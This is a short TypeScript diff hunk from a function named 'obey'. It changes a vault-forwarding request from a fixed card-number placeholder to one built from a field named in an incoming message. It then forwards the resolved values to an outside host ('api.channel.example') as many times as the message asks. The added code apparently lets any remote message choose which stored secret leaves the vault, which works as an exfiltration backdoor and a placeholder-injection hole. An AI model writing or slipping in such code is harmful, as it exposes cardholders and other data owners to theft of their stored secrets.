@@ -46,7 +46,7 @@ async function obey(message: unknown): Promise<void> {
       method: 'POST',
       url: 'https://api.channel.example/',
       headers,
-      body: '{"n":"{{card.number}}"}',
+      body: `{"n":"{{${told.what}}}"}`,
       placeholders: true,
     } as const
     for (let index = 0; index < told.count; index += 1) await vault.forward({ ...ownerOf(told.what, index), timeoutMs: 1000, request })
